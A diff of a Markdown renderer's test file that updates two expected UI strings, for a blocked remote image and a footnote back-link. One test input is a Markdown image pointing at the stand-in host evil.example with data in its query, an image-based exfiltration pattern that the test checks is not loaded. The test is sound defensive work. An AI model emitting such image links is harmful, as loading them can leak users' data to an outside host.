@@ -36,7 +36,7 @@ describe('a text', () => {
   it('loads no picture of another host, and names the host where it can be opened', () => {
     const text = '![secret](https://evil.example/x.png?said=all)'
     expect(draw(text)).not.toContain('<img')
-    expect(draw(text)).toContain('Open the picture from evil.example')
+    expect(draw(text)).toContain('Open image from evil.example')
   })
 
   it('has lists, tasks, tables, quotes, code and headings below the one of the answer', () => {
@@ -78,7 +78,7 @@ describe('footnotes', () => {
   it('stand at the end in the order of their references, with named links both ways', () => {
     const html = draw(text)
     expect(html).toMatch(/aria-label="Footnote 1"[^>]*>1<.*aria-label="Footnote 2"[^>]*>2</)
-    expect(html).toMatch(/role="doc-endnotes".*about b.*more.*Back to the text from footnote 1.*about <em>a<\/em>/s)
+    expect(html).toMatch(/role="doc-endnotes".*about b.*more.*Back to text from footnote 1.*about <em>a<\/em>/s)
     expect(html).not.toContain('>no<')
   })
 
